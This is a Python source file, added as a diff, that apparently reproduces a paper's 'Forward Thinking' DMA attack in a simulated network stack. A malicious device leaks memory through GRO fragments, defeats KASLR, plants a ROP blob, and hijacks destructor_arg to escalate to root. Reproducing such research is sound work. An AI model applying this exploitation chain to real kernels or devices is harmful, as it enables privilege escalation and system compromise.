@@ -1,0 +1,169 @@
+"""The Forward Thinking compound attack (section 5.5, Figure 9).
+
+Against a victim with packet forwarding enabled, a device needs no
+cooperating user process at all:
+
+1. It injects linear TCP segments of one flow; the GRO layer converts
+   them "into a single sk_buff with multiple fragments" whose frags[]
+   carry struct page pointers of the *attacker-written* RX pages --
+   recovering ``vmemmap_base`` from the first TX read.
+2. Frags spoofing (surveillance) then reads arbitrary low-memory
+   pages, leaking ``init_net`` (text base) and SLUB freelist KVAs
+   (``page_offset_base``) -- full KASLR compromise.
+3. A second GRO flow carries the now-constructible ROP blob; its TX
+   frags reveal the blob's exact KVA; the device withholds the TX
+   completion so the member buffer stays alive.
+4. A final spoofed RX packet's shared info is hijacked through a
+   Figure-7 window to point ``destructor_arg`` at the blob; freeing
+   it escalates privileges.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import TYPE_CHECKING
+
+from repro.core.attacks.device import MaliciousDevice
+from repro.core.attacks.payload import build_attack_blob
+from repro.core.attacks.surveillance import (REMOTE_IP, surveil_for_kaslr)
+from repro.core.attacks.window import open_rx_window_covering
+from repro.core.attributes import VulnerabilityAttributes
+from repro.errors import AttackFailed
+from repro.net.gro import FLAG_PUSH
+from repro.net.proto import PROTO_TCP, PROTO_UDP, make_packet
+from repro.net.skbuff import SKBTX_DEV_ZEROCOPY
+from repro.net.structs import SKB_SHARED_INFO, skb_shared_info_offset
+
+if TYPE_CHECKING:
+    from repro.net.nic import Nic
+    from repro.sim.kernel import Kernel
+
+#: buf_size of the GRO aggregate's linear head (public stack config).
+GRO_HEAD_BUF_SIZE = 256
+
+_FRAG0_PAGE_OFF = SKB_SHARED_INFO.field("frags[0].page").offset
+_FRAG0_OFFSET_OFF = SKB_SHARED_INFO.field("frags[0].page_offset").offset
+_TX_FLAGS_OFF = SKB_SHARED_INFO.field("tx_flags").offset
+_DESTRUCTOR_ARG_OFF = SKB_SHARED_INFO.field("destructor_arg").offset
+
+
+@dataclass
+class ForwardThinkingReport:
+    attributes: VulnerabilityAttributes
+    blob_kva: int | None = None
+    escalated: bool = False
+    stage_log: list[str] = field(default_factory=list)
+
+
+def _inject_gro_flow(kernel: "Kernel", nic: "Nic", flow_id: int,
+                     payloads: list[bytes], *, cpu: int = 0) -> None:
+    """Send linear TCP segments; the last one flushes the aggregation."""
+    for i, payload in enumerate(payloads):
+        flags = FLAG_PUSH if i == len(payloads) - 1 else 0
+        packet = make_packet(dst_ip=REMOTE_IP, proto=PROTO_TCP,
+                             flags=flags, flow_id=flow_id, dst_port=80,
+                             payload=payload)
+        if not nic.device_receive(packet, cpu=cpu):
+            raise AttackFailed("RX ring starved", stage="gro-flow")
+        nic.napi_poll(cpu=cpu)
+    kernel.stack.process_backlog()
+
+
+def _read_gro_frags(nic: "Nic", device: MaliciousDevice, marker: bytes, *,
+                    cpu: int = 0, complete: bool = True):
+    """Find the forwarded aggregate in the TX stream; read its frags[0].
+
+    Returns (desc, page_ptr, frag_offset) or None. With
+    ``complete=False`` the descriptor is left uncompleted (delayed).
+    """
+    info_off = skb_shared_info_offset(GRO_HEAD_BUF_SIZE)
+    for desc, data in nic.device_fetch_tx(cpu=cpu, complete=False):
+        if marker not in data:
+            nic.device_complete_tx(desc)
+            continue
+        info_iova = desc.linear_iova + info_off
+        page_ptr = device.dma_read_u64(info_iova + _FRAG0_PAGE_OFF)
+        frag_offset = int.from_bytes(
+            device.dma_read(info_iova + _FRAG0_OFFSET_OFF, 4), "little")
+        if complete:
+            nic.device_complete_tx(desc)
+        return desc, page_ptr, frag_offset
+    return None
+
+
+def run_forward_thinking(kernel: "Kernel", nic: "Nic",
+                         device: MaliciousDevice, *,
+                         cpu: int = 0) -> ForwardThinkingReport:
+    """Execute Forward Thinking against a forwarding victim."""
+    attrs = VulnerabilityAttributes()
+    report = ForwardThinkingReport(attributes=attrs)
+    if not kernel.stack.forwarding:
+        report.stage_log.append("victim does not forward; attack N/A")
+        return report
+
+    # Stage 1: a probe GRO flow leaks a struct page pointer.
+    _inject_gro_flow(kernel, nic, 0x4100,
+                     [b"GROPROBE" + bytes([i]) * 64 for i in range(3)],
+                     cpu=cpu)
+    probe = _read_gro_frags(nic, device, b"GROPROBE", cpu=cpu)
+    if probe is None:
+        report.stage_log.append("no GRO aggregate observed on TX")
+        return report
+    _desc, page_ptr, _off = probe
+    nic.tx_clean(cpu=cpu)
+    device.knowledge.vmemmap_base = \
+        device.leak_scanner.recover_vmemmap_base(page_ptr)
+    report.stage_log.append(
+        f"vmemmap base {device.knowledge.vmemmap_base:#x} from GRO "
+        f"frag leak {page_ptr:#x} (Figure 9)")
+
+    # Stage 2: surveillance scan completes the KASLR break.
+    if not surveil_for_kaslr(kernel, nic, device, cpu=cpu):
+        report.stage_log.append("surveillance failed to break KASLR")
+        return report
+    report.stage_log.extend(device.knowledge.notes)
+
+    # Stage 3: a second GRO flow carries the blob; its frags reveal the
+    # blob's KVA; the aggregate's completion is withheld.
+    blob = build_attack_blob(device.knowledge)
+    marker = b"FWDBLOB!"
+    payloads = [marker + blob, marker + b"\x00" * 64, marker + b"\x01" * 64]
+    _inject_gro_flow(kernel, nic, 0x4200, payloads, cpu=cpu)
+    hit = _read_gro_frags(nic, device, marker, cpu=cpu, complete=False)
+    if hit is None:
+        report.stage_log.append("blob aggregate not observed on TX")
+        return report
+    delayed_desc, page_ptr2, frag_offset2 = hit
+    pfn = device.knowledge.pfn_of_struct_page(page_ptr2)
+    # frags[0] points at the first member's payload; the blob follows
+    # the marker at its start.
+    report.blob_kva = device.knowledge.kva_of_pfn(
+        pfn, frag_offset2) + len(marker)
+    attrs.record_kva(
+        report.blob_kva,
+        "GRO turned our linear segments into frags; struct page + "
+        "offset read from the forwarded aggregate (Figure 9)")
+    attrs.record_callback_access(
+        "RX skb_shared_info writable through a Figure-7 window")
+    report.stage_log.append(
+        f"blob KVA {report.blob_kva:#x}; aggregate completion withheld")
+
+    # Stage 4: hijack a fresh RX skb's shared info -> detonate.
+    base = skb_shared_info_offset(nic.rx_buf_size)
+    window = open_rx_window_covering(
+        kernel, nic, device,
+        lambda i: make_packet(dst_ip=0x0A00_0001, dst_port=9999,
+                              proto=PROTO_UDP, flow_id=0x4300 + i,
+                              payload=b"\x00" * 32),
+        [(base + _TX_FLAGS_OFF, 1), (base + _DESTRUCTOR_ARG_OFF, 8)],
+        cpu=cpu)
+    window.write(base + _TX_FLAGS_OFF, bytes([SKBTX_DEV_ZEROCOPY]))
+    window.write_u64(base + _DESTRUCTOR_ARG_OFF, report.blob_kva)
+    attrs.record_window(
+        f"Figure-7 path(s) {'+'.join(sorted(window.paths_used))}")
+    kernel.stack.process_backlog()
+    nic.device_complete_tx(delayed_desc)
+    nic.tx_clean(cpu=cpu)
+    report.escalated = kernel.executor.creds.is_root
+    report.stage_log.append(f"escalated={report.escalated}")
+    return report
